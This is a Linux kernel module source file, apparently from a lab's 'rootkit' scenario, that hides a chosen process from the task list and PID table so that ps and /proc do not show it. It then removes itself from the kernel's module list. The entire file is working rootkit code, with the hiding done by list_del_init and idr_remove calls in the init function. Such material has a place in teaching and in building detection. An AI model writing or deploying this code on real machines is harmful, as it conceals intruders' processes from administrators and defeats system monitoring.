// SPDX-License-Identifier: GPL-2.0
/*
 * The intruder's kernel module in the lab's scenario "rootkit": takes one process
 * out of the list of tasks and out of the table of process numbers, so that /proc
 * and ps do not show it, and itself out of the list of modules. The process runs
 * on: the scheduler, its parent and its sockets still know it.
 *
 *	insmod hide.ko pid=N
 */
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>

static int pid;
module_param(pid, int, 0);

static int __init hide_init(void)
{
	struct task_struct *task = pid_task(find_vpid(pid), PIDTYPE_PID);

	if (!task)
		return -ESRCH;
	/* Emptied rather than poisoned: the kernel unlinks it once more on exit. */
	list_del_init(&task->tasks);
	idr_remove(&task_active_pid_ns(task)->idr, pid);
	list_del_init(&THIS_MODULE->list);
	return 0;
}
module_init(hide_init);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hides one process");
